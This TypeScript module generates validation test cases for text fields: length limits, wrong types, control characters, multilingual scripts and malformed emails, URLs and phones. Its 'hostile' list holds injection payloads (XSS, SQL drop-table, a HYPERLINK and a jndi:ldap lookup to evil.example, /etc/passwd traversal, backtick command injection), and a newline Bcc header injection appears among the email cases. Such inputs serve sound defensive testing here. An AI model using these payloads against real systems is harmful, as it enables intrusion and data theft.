/** What a text field takes, as the table of cases has to know it. */
export interface Field {
  max: number
  min?: number
  required?: boolean
  kind?: 'line' | 'lines' | 'email' | 'url' | 'phone'
  /** What is refused by its content: the end of the API's sentence, or null. */
  check?: (value: string) => string | null
  /** Blanks alone are refused, though it may be empty. */
  filled?: boolean
  /** Column, when it is not the field's name in snake case; null: kept sealed or elsewhere. */
  column?: string | null
  /** Blanks at either end are taken off by the server. */
  trimmed?: boolean
  /** The form asks for it although the API does not. */
  formRequires?: boolean
}

/** The kind of text, one line when nothing is said. */
export const kindOf = (field: Field) => field.kind ?? 'line'
const isFree = (field: Field) => kindOf(field) === 'line' || kindOf(field) === 'lines'
/** As long as it may be, or one longer, and still of its kind. */
function ofLength(field: Field, length: number): string {
  switch (kindOf(field)) {
    case 'email':
      // 64 before the @, labels of at most 63 after it, as far as the length allows.
      return `${'a'.repeat(64)}@${'b'.repeat(length - 68)}.ca`.slice(0, length)
    case 'url':
      return `https://a.example/${'p'.repeat(length - 18)}`
    case 'phone':
      return '5'.repeat(length)
    default:
      return 'é'.repeat(length)
  }
}

/** One value for one field. */
export interface Case {
  name: string
  value: unknown
  /** The end of the API's sentence, after the field's name; null: taken and stored as it is. */
  refusal: string | null
  /** Values that no text input yields have no answer of the form. */
  isTyped: boolean
}

const kinds: Readonly<Record<string, string>> = {
  email: 'must be an email',
  url: 'must be a valid URL',
  phone: 'must be a phone number',
}
const wrongKinds: readonly (readonly [string, unknown])[] = [
  ['a number', 5],
  ['true', true],
  ['a list', ['a']],
  ['an object', { a: 1 }],
]
const unprintable: readonly (readonly [string, string])[] = [
  ['a NUL', 'abcdefghij\u0000'],
  ['an escape', 'abcdefghij\u001b[2J'],
  ['half a character', 'abcdefghij\ud800'],
  ['a C1 control', 'abcdefghij\u0085'],
  // They turn the reading of what stands beside the text round, too.
  ['an override to the left', 'abcdefghij\u202egpj'],
  ['an override to the right', 'abcdefghij\u202dgpj'],
]
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table customers; --",
  '=HYPERLINK("http://evil.example","x")',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it looks like
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd%00',
  '\\u0000 %n%s #{7*7} `id`',
  '__proto__',
]
const scripts: readonly string[] = [
  'Žluťoučký kůň & Søn',
  'Ελληνικά Кириллица',
  '株式会社山田商店　東京',
  'شركة النور للتجارة',
  'בית מלאכה ירושלים',
  'ห้างหุ้นส่วนจำกัด',
  'हिन्दी नमस्ते दुनिया',
  '👩‍👩‍👧 🇨🇦 𠮷野家 family',
  // As it is typed is how it is kept: neither composed nor stripped of the marks and isolates that direction needs.
  'Ame\u0301lie decomposed',
  '\u2067שלום\u2069 isolated\u200f',
]

/** All cases of one field. */
export function casesOf(field: Field): Case[] {
  const kind = kindOf(field)
  const cases: Case[] = []
  const byContent = (value: string, otherwise: string | null) => (field.check ? field.check(value) : otherwise)
  const add = (name: string, value: unknown, refusal: string | null, isTyped = typeof value === 'string') =>
    cases.push({ name, value, refusal, isTyped })

  add('empty', '', field.required ? 'is required' : null)
  add('null', null, field.required ? 'is required' : null)
  const blanks = { email: kinds.email, url: kinds.url, phone: null, line: null, lines: null }[kind] ?? null
  add('blanks', '   ', (isFree(field) || field.check) && (field.required || field.filled) ? 'is required' : blanks)
  add('as long as it may be', ofLength(field, field.max), null)
  add('one too long', ofLength(field, field.max + 1), `must be at most ${field.max} characters`)
  add('far too long', 'x'.repeat(25_000), `must be at most ${field.max} characters`)
  if (field.min) {
    const short = `must be at least ${field.min} characters`
    add('one too short', 'é'.repeat(field.min - 1), short)
    add('as short as it may be', 'é'.repeat(field.min), null)
    add('made longer by blanks', `${'é'.repeat(field.min - 1)}     `, short)
    add('made longer by characters of two units', '😀'.repeat(field.min - 1), short)
    add('as short as it may be, of two units each', '😀'.repeat(field.min), null)
  }
  for (const [name, value] of wrongKinds) add(name, value, 'must be a string')
  const ofText = kind === 'email' || kind === 'url' ? (kinds[kind] ?? null) : 'must not contain control characters'
  for (const [name, value] of unprintable) add(name, value, ofText)
  add('two lines', 'first line\nsecond', kind === 'lines' ? null : ofText)
  for (const value of [...hostile, ...scripts]) {
    if (fits(field, value)) add(value, value, byContent(value, isFree(field) ? null : (kinds[kind] ?? null)))
  }
  for (const value of formsOf[kind] ?? []) add(value, value, byContent(value, null))
  for (const value of deformed[kind] ?? [])
    if (fits(field, value)) add(value, value, byContent(value, kinds[kind] ?? null))
  return cases
}

const fits = (field: Field, value: string) => value.length <= field.max && value.length >= (field.min ?? 0)

const formsOf: Readonly<Record<string, readonly string[]>> = {
  email: ["o'neil+tag@sub.example.co", 'jürgen@müller.example', '用户@例え.example'],
  url: ['http://example.org', 'https://例え.example/道?q=1#x', 'https://user.example:8443/a%20b'],
  phone: ['+1 (250) 555-0142', '()'],
}
const deformed: Readonly<Record<string, readonly string[]>> = {
  email: [
    'ada',
    'ada@',
    '@example.org',
    'ada@example',
    'a da@example.org',
    ' ada@example.org',
    'a@b@example.org',
    'a@b..c',
    'a@x.ca,b@x.ca',
    'Ada <a@example.org>',
    'a@x.ca\nBcc: b@x.ca',
    // Right but for what nobody sees.
    'a\u0000da@example.org',
    'a\u001bda@example.org',
    'a\u0085da@example.org',
    'a\ud800da@example.org',
    'a\u202eda@example.org',
  ],
  url: [
    'example.org',
    'javascript:alert(1)',
    'ftp://example.org',
    'http://',
    ' https://a.example',
    'https://a.example/\t',
    'data:text/html,x',
    'https://a.example/\u0000x',
    'https://a.example/\u001bx',
    'https://a.example/\ud800x',
    'https://a.example/\u202ex',
    'https://a.example/a\nb',
  ],
  phone: ['250.555', '٠١٢٣', '+1 250 ext'],
}
